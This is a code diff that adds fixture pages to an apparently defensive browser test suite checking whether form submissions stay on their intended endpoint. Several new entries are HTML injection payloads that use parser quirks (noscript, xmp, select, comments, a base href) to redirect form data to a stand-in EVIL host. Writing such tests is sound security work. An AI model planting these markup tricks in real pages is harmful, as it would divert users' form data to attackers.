@@ -95,6 +95,35 @@ const PAGES = {
     html: `<html xmlns="http://www.w3.org/1999/xhtml"><body><form method="post" action="/orders"><input name="q"/><xmp><button formmethod="get" formaction="${EVIL}">Look</button></xmp><button>Pay</button></form></body></html>`,
     click: "text=Look",
   },
+  "/noscript-title": {
+    html: `<form method="get" action="${EVIL}"><noscript><p title="</noscript></form><form method=post action=/orders>"><input name="q"><button>Pay</button></form>`,
+    enter: true,
+  },
+  "/noscript-title-own": {
+    html: `<form><noscript><p title="</noscript></form><form method=post>"><input name="q"><button>Pay</button></form>`,
+    enter: true,
+  },
+  "/noscript-comment-base": {
+    html: `<noscript><!--</noscript><form method="post" action="/a"><button>A</button></form>--></noscript><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
+    click: "text=Pay",
+  },
+  "/noscript-xmp": {
+    html: `<form method="get" action="${EVIL}"><noscript><xmp></noscript></form><form method="post" action="/orders"></xmp></noscript><input name="q"><button>Pay</button></form>`,
+    click: "text=Pay",
+  },
+  "/select-div": {
+    html: `<form id="x" method="post"><div><select></div></form><input type="submit" formmethod="get" formaction="${EVIL}" value="Look"><input name="q">`,
+    click: 'input[value="Look"]',
+  },
+  "/select-ul": {
+    html: `<form id="x" method="post"><ul><li><select></ul></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
+    enter: true,
+  },
+  "/noscript-pixel": {
+    html: `<noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
+    click: "text=Pay",
+    posts: true,
+  },
   "/icon": {
     html: `<form method="post" action="/orders"><input name="q"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>`,
     click: "text=Pay",
